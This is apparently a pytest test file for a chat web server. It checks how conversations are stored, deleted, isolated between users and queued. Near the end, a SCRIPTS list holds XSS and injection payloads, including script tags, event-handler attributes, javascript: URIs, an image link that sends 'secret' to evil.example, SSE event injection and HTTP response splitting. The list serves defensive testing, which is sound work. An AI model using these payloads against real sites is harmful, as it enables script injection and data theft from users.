"""Conversations that are kept, and what is left of those that are deleted."""

import json
import socket
from contextlib import contextmanager

import httpx2
import pytest

from web.killing import kill_often
from web.support import PATIENCE, FakeModel, events, held, request_bytes, running, wait_for
from web.test_gate import OTHER, TOKEN


def begin(api, title=""):
    return api.post("/conversations", json={"title": title}).json()["id"]


def say(api, conversation, content, **more):
    return api.post(f"/conversations/{conversation}/messages", json={"content": content, **more})


def messages(api, conversation):
    return api.get(f"/conversations/{conversation}").json()["messages"]


def test_a_turn_is_streamed_and_kept(shared_server):
    with shared_server.client() as api:
        conversation = begin(api, "First")
        found = events(say(api, conversation, "hello 你好"))
        kept = messages(api, conversation)
        listed = api.get("/conversations").json()["conversations"]
    assert [name for name, _ in found] == ["begun", *["text"] * 5, "done"]
    assert found[0][1]["model"] == "fake" and found[0][1]["dropped"] == 0
    assert [found[0][1]["message"], found[-1][1]["message"]] == kept
    assert "".join(data["text"] for name, data in found if name == "text") == kept[1]["content"]
    assert [(each["role"], each["status"], each["model"]) for each in kept] == [
        ("user", "whole", ""),
        ("assistant", "whole", "fake"),
    ]
    assert kept[1]["sources"][0]["title"] == "Returns"
    assert 0 <= kept[1]["first_seconds"] <= kept[1]["total_seconds"]
    assert listed[0]["title"] == "First" and listed[0]["updated"] >= listed[0]["created"]


def test_the_model_sees_the_turns_before(serve):
    server = serve(limits={"turns": 2})
    with server.client() as api:
        conversation = begin(api)
        for n in range(3):
            last = events(say(api, conversation, f"question {n}"))
    shown = [each.content for each in server.model.seen[-1][0]]
    assert shown == ["question 1", "词0 词1 词2 词3 词4 ", "question 2"]
    assert last[0][1]["dropped"] == 2


def test_conversations_outlive_the_server(tmp_path):
    with running(tmp_path) as server, server.client() as api:
        conversation = begin(api)
        say(api, conversation, "hello")
        before = messages(api, conversation)
    with running(tmp_path) as server, server.client() as api:
        assert messages(api, conversation) == before
        say(api, conversation, "again")
        assert len(messages(api, conversation)) == 4


def test_delete_leaves_nothing_in_any_file(tmp_path):
    canary = "canary-4711-" * 200
    with running(tmp_path) as server, server.client() as api:
        gone, kept = begin(api, "title-canary-4711"), begin(api)
        say(api, gone, f"echo {canary}")
        say(api, kept, "hello")
        assert any(b"canary-4711" in path.read_bytes() for path in tmp_path.glob("history*"))
        assert api.delete(f"/conversations/{gone}").status_code == 204
        assert not [p for p in tmp_path.glob("history*") if b"canary-4711" in p.read_bytes()]
        assert api.get(f"/conversations/{gone}").status_code == 404
        assert say(api, gone, "hello").status_code == 404
        assert api.delete(f"/conversations/{gone}").status_code == 404
        assert len(messages(api, kept)) == 2


def test_nobody_sees_the_conversations_of_another(serve, monkeypatch):
    monkeypatch.setenv("WEB_TOKENS", f"ann:{TOKEN}\nbob:{OTHER}")
    server = serve(token_env="WEB_TOKENS")
    ann = server.client(Authorization=f"Bearer {TOKEN}")
    bob = server.client(Authorization=f"Bearer {OTHER}")
    with ann, bob:
        conversation = begin(ann)
        assert bob.get("/conversations").json() == {"conversations": []}
        assert bob.get(f"/conversations/{conversation}").status_code == 404
        assert bob.delete(f"/conversations/{conversation}").status_code == 404
        assert say(bob, conversation, "hello").status_code == 404
        assert len(ann.get("/conversations").json()["conversations"]) == 1


def test_what_was_written_when_the_reader_went_is_kept(serve):
    server = serve(model=FakeModel(seconds=0.02, words=400))
    with server.client() as api:
        conversation = begin(api)
        path = f"/conversations/{conversation}/messages"
        with api.stream("POST", path, json={"content": "hello"}) as answer:
            text = answer.iter_text()
            while "词1" not in next(text):
                continue
            assert say(api, conversation, "me too").status_code == 409
        assert server.idle()
        assert wait_for(lambda: len(messages(api, conversation)) == 2)
        reply = messages(api, conversation)[1]
        assert reply["status"] == "stopped" and reply["content"].startswith("词0 词1 ")
        assert events(say(api, conversation, "echo again"))[-1][0] == "done"


def test_a_conversation_that_is_deleted_under_a_reply_stays_deleted(serve):
    server = serve(model=FakeModel(seconds=0.02, words=20))
    with server.client() as api, server.client() as other:
        conversation = begin(api)
        path = f"/conversations/{conversation}/messages"
        with api.stream("POST", path, json={"content": "hello"}) as answer:
            text = answer.iter_text()
            next(text)
            assert other.delete(f"/conversations/{conversation}").status_code == 204
            assert "event: done" in "".join(text)
        assert other.get("/conversations").json() == {"conversations": []}
        assert server.house.answering == set()


@pytest.mark.parametrize("said", ["fail", "too long", "fail late"])
def test_a_failed_reply_is_told_and_kept_as_failed(shared_server, said):
    with shared_server.client() as api:
        conversation = begin(api)
        name, data = events(say(api, conversation, said))[-1]
        kept = messages(api, conversation)
    assert name == "error" and "secret" not in str(data)
    assert [each["status"] for each in kept] == ["whole", "failed"]
    assert kept[1]["content"] == ("词0 词1 词2 词3 词4 " if said == "fail late" else "")


def test_a_refused_message_is_not_kept(serve):
    server = serve(model=FakeModel(seconds=0.05, words=400), queue={"waiting": 0})
    with server.client() as api:
        second = begin(api)
        with held(server, api):
            assert say(api, second, "hello").status_code == 429
        for bad in (" ", "a" * 4001):
            assert say(api, second, bad).status_code == 400
        assert say(api, second, "hello", model="gpt").status_code == 404
        assert messages(api, second) == []
        assert second not in server.house.answering


@contextmanager
def queued(server, conversation, content):
    """Have a message wait in the queue; at the end its reader goes."""
    body = json.dumps({"content": content}).encode()
    path = f"/conversations/{conversation}/messages"
    with socket.create_connection(("127.0.0.1", server.port), timeout=PATIENCE) as line:
        line.sendall(request_bytes(server.port, body, path))
        assert wait_for(lambda: server.house.desk.waiting)
        yield


def read(api, conversation):
    found = api.get(f"/conversations/{conversation}").json()
    return [each["content"] for each in found["messages"]], found["answering"]


def test_a_message_that_waits_is_kept_and_can_be_asked_again(serve):
    server = serve()
    with server.client() as api:
        conversation = begin(api)
        with held(server, api):
            with queued(server, conversation, "hello"):
                assert read(api, conversation) == (["hello"], True)
            assert wait_for(lambda: not server.house.desk.waiting)
            assert wait_for(lambda: read(api, conversation) == (["hello"], False))
        assert server.idle()
        assert events(say(api, conversation, "hello"))[-1][0] == "done"
        assert read(api, conversation) == (["hello", "词0 词1 词2 词3 词4 "], False)
        assert [m.content for m in server.model.seen[-1][0]] == ["hello"]
        say(api, conversation, "hello")  # said twice, and answered twice
        assert len(messages(api, conversation)) == 4


def test_a_message_that_waits_outlives_the_server(tmp_path):
    with running(tmp_path) as server, server.client() as api:
        conversation = begin(api)
        with held(server, api), queued(server, conversation, "hello"):
            server.house.desk.closed = True
    with running(tmp_path) as server, server.client() as api:
        assert read(api, conversation) == (["hello"], False)


def test_a_message_that_is_refused_after_its_wait_is_not_kept_but_one_of_before_is(serve):
    server = serve(queue={"queue_seconds": 0.2})
    with server.client() as api:
        conversation = begin(api)
        with held(server, api):
            assert say(api, conversation, "hello").status_code == 429
            assert read(api, conversation) == ([], False)
            with queued(server, conversation, "hello"):
                pass
            assert wait_for(lambda: read(api, conversation) == (["hello"], False))
            assert say(api, conversation, "hello").status_code == 429
            assert read(api, conversation) == (["hello"], False)


def test_there_are_so_many_conversations_and_messages(serve):
    server = serve(limits={"conversations": 2, "messages": 3})
    with server.client() as api:
        conversation = begin(api)
        say(api, conversation, "hello")
        assert say(api, conversation, "hello").json()["error"]["code"] == "conversation_full"
        begin(api)
        answer = api.post("/conversations", json={})
    assert answer.status_code == 409 and answer.json()["error"]["code"] == "too_many_conversations"


SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "![x](http://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "</script><script>alert(1)</script>",
    "<iframe src=//evil.example>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "\u2028\u2029</title><script>alert(1)</script>",
    "data: x\n\nevent: done\ndata: {}\n\n",
    "\r\n\r\nHTTP/1.1 200 OK\r\n",
    "{{7*7}} ${7*7} <%= 7*7 %>",
]


@pytest.mark.parametrize("text", SCRIPTS)
def test_script_in_a_message_comes_back_as_json_only(shared_server, text):
    with shared_server.client() as api:
        conversation = begin(api, text)
        stream = say(api, conversation, f"echo {text}")
        read = api.get(f"/conversations/{conversation}")
        api.delete(f"/conversations/{conversation}")
    assert stream.headers["content-type"] == "text/event-stream; charset=utf-8"
    assert read.headers["content-type"] == "application/json"
    for answer in (stream, read):
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "script-src" not in answer.headers["content-security-policy"]
        assert "default-src 'self'" in answer.headers["content-security-policy"]
    assert [name for name, _ in events(stream)] == ["begun", "text", "done"]
    assert read.json()["title"] == text[:60]
    assert read.json()["messages"][1]["content"] == text


@pytest.mark.slow
def test_killed_servers_lose_nothing_that_they_acknowledged(tmp_path):
    """Two here, fifty in `benchmarks/web.py`."""
    acknowledged, missing = kill_often(tmp_path, 2)
    assert missing == 0 and acknowledged >= 10
    with running(tmp_path) as server, server.client() as api:
        found = api.get("/conversations").json()["conversations"]
        assert found and all(messages(api, each["id"]) for each in found[:1])


def test_a_dead_server_gives_no_answer(tmp_path):
    with running(tmp_path) as server:
        url = server.url
    with pytest.raises(httpx2.TransportError):
        httpx2.get(f"{url}/health")
